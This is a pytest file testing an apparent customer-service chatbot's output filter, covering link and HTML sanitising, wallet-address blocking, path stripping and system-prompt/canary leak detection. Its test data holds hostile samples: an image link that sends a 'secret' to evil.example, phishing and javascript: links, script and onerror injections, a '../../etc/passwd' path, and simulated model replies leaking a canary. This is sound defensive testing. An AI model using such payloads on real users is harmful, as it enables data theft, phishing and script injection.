"""The output policy on every customer-visible text, the stream version of it, the leak check, and a real model
forced to copy its instructions: the canary never reaches the customer."""

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.guardrails.output_policy import LINK_REMOVED, LeakCheck, OutputPolicy, PolicyStream, clean_text, public_source

POLICY = OutputPolicy(link_hosts=["lumen.example"])


@pytest.mark.parametrize(
    "text, expected",
    [
        ("See ![x](http://evil.example/p.png?q=secret).", "See x."),
        ("[our policy](https://lumen.example/returns) and [help](https://help.lumen.example/a)",
         "[our policy](https://lumen.example/returns) and [help](https://help.lumen.example/a)"),
        ("[log in here](http://evil.example/login)", "log in here"),
        ("[x](https://lumen.example.evil.example/)", "x"),  # a look-alike host
        ("Go to http://evil.example/pay now", f"Go to {LINK_REMOVED} now"),
        ("or www.evil.example/x.", f"or {LINK_REMOVED}."),
        ("<https://evil.example/>", LINK_REMOVED),
        ("[a](javascript:alert(1)) <javascript:alert(1)> javascript:alert(2)", f"a {LINK_REMOVED} alert(2)"),
        ("[a](data:text/html;base64,PHNjcmlwdD4=)", "a"),
        ("<script>steal()</script><b>bold</b> <img src=x onerror=alert(1)>", "bold "),
        ("a <!-- hidden --> b", "a  b"),
        ("x <iframe src=//evil.example></iframe> y", "x  y"),
        ("[ref]: http://evil.example\nsee ![i][ref]", "\nsee i"),
        ("tab\tand\nnewline stay; bell\x07, NUL\x00, RLO\u202e and ZWSP\u200b go",
         "tab\tand\nnewline stay; bell, NUL, RLO and ZWSP go"),
        ("Returns within 30 days [1]. 退货请在30天内申请【2】。", "Returns within 30 days [1]. 退货请在30天内申请【2】。"),
        ("1 < 2 and 3 > 2; a<b", "1 < 2 and 3 > 2; a< b"),
        ("write to help@lumen.example or win@evil.com", "write to help@lumen.example or win＠evil.com"),
    ],
)
def test_the_policy_keeps_text_and_allowed_links_and_disarms_the_rest(text, expected):
    assert POLICY.apply(text).text == expected


def test_blocked_patterns_and_wallet_addresses_block_the_whole_text():
    result = POLICY.apply("Please pay to bitcoin address 1BoatSLRHtKNngkdXEeobR76b53LETtpyT today.", "en")
    assert result.blocked and "human agent" in result.text and "1Boat" not in result.text
    assert OutputPolicy().apply("send 0x52908400098527886E0F7030069857D2E4169EE7 now", "zh").text.startswith("抱歉")
    custom = OutputPolicy(blocked_patterns=[r"competitor\.com"])
    assert custom.apply("buy at competitor.com").blocked and not custom.apply("buy here").blocked


def test_sources_are_named_without_server_paths():
    assert public_source("data/kb/policies/en/returns.md") == "data/kb/policies/en/returns.md"
    assert public_source("/srv/kefu/private/kb/returns.md") == "returns.md"
    assert public_source("../../etc/passwd") == "passwd"
    assert public_source("C:\\kb\\faq.csv") == "faq.csv"
    assert public_source("https://lumen.example/returns") == "https://lumen.example/returns"


def test_leak_check_finds_the_canary_and_long_spans_of_the_system_prompt():
    system = "You are a customer-service assistant. Answer the customer's question using only the numbered passages."
    leaks = LeakCheck(["kefu-0123456789abcdef"], system)
    assert leaks("the marker is kefu-0123456789abcdef")
    assert leaks("my instructions: you are a customer-service  assistant. Answer the customer's question using only")
    assert not leaks("I am a customer-service assistant. How can I help?")


def test_the_stream_never_shows_a_forbidden_link_and_ends_as_the_whole_text_does():
    text = ("Our [returns page](https://lumen.example/returns) says 30 days. Do not use [this](http://evil.example/x) "
            "or http://evil.example/pay. ![img](http://evil.example/p.png) Thanks [1].")  # fmt: skip
    for size in (1, 3, 7, 50):
        stream = PolicyStream(POLICY)
        shown = [stream.feed(text[i : i + size]) for i in range(0, len(text), size)] + [stream.flush()]
        assert "".join(shown) == POLICY.apply(text).text
        assert all("evil.example" not in piece for piece in shown)


def test_the_stream_stops_at_a_leak_or_a_blocked_pattern():
    stream = PolicyStream(POLICY, leaks=LeakCheck(["kefu-secret-42"]))
    out = stream.feed("Sure. The marker is ") + stream.feed("kefu-secret-42 and more") + stream.flush()
    assert stream.blocked and "kefu-secret-42" not in out
    stream = PolicyStream(POLICY)
    out = stream.feed("Pay 1BoatSLRHtKNngkdXEeobR76b53LETtpyT ") + stream.feed("now.")
    assert stream.blocked and "1Boat" not in out


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.characters(blacklist_categories=()), max_size=300))
def test_fuzz_the_policy_never_raises_and_its_output_is_clean(text):
    out = POLICY.apply(text).text
    assert out == clean_text(out)
    assert "<script" not in out.lower() and "javascript:" not in out.lower()
    assert POLICY.apply(out).text == out  # applying twice changes nothing more


def rendered_targets(markdown: str) -> list[str]:
    """Every href and src a GFM-like renderer (autolinks on, as Streamlit's) makes of the text."""
    import re

    from markdown_it import MarkdownIt

    md = MarkdownIt("gfm-like", {"linkify": True})
    md.linkify.set({"fuzzy_link": False, "fuzzy_email": False})  # GFM links www. and scheme URLs, not bare
    md.linkify.add("//", None)  # domains, nor protocol-relative ones; its email autolinks are checked below
    from html.parser import HTMLParser

    targets: list[str] = []

    class Targets(HTMLParser):
        def handle_starttag(self, tag, attrs):
            targets.extend(value or "" for name, value in attrs if name in ("href", "src"))

    Targets().feed(md.render(markdown))
    # GFM's extended email autolink: [A-Za-z0-9._+-]+@ then a domain of [A-Za-z0-9_-] labels with a period.
    # (Inside a URL autolink an "@" is part of the URL.)
    without_urls = re.sub(r"(?:https?://|www\.)[^\s<]*", " ", markdown)
    targets += ["mailto:" + m for m in re.findall(r"[A-Za-z0-9._+-]+@[A-Za-z0-9_-]+(?:\.[A-Za-z0-9_-]+)+", without_urls)]
    return targets


PIECES = ["[a](http://evil.com/x)", " ", "text", "!", "]", "[x]", "//", "http:", "\n", "![i](http://evil.com/p.png)", "<b>", "https://lumen.example/ok",
          "www.evil.com", "http://evil.com/pay", "[", "](", ")", "<", ">", "javascript:", "kefu", "<a href='//evil.com'>",
          "[x]: http://evil.com", "![y][x]", "(", "www.", "evil.com/", "`", "**", "me@evil.com", "mailto:a@evil.com",
          "<me@evil.com>", "@", "support@lumen.example"]  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=30), st.integers(1, 9))
def test_fuzz_nothing_renders_as_a_link_or_image_to_an_unlisted_host(parts, size):
    text = "".join(parts)
    whole = POLICY.apply(text).text
    stream = PolicyStream(POLICY)
    shown = "".join(stream.feed(text[i : i + size]) for i in range(0, len(text), size)) + stream.flush()
    for out in (whole, shown):
        for target in rendered_targets(out):
            if target.startswith("mailto:"):
                assert target.split("@")[-1].rstrip("_-.") in ("lumen.example",), (text, out, target)
            elif not re.match(r"[A-Za-z][A-Za-z0-9+.-]*:", target) and not target.startswith(("//", "/\\", "\\")):
                pass  # a relative link stays on the site that shows it
            else:
                assert POLICY.url_allowed(target), (text, out, target)
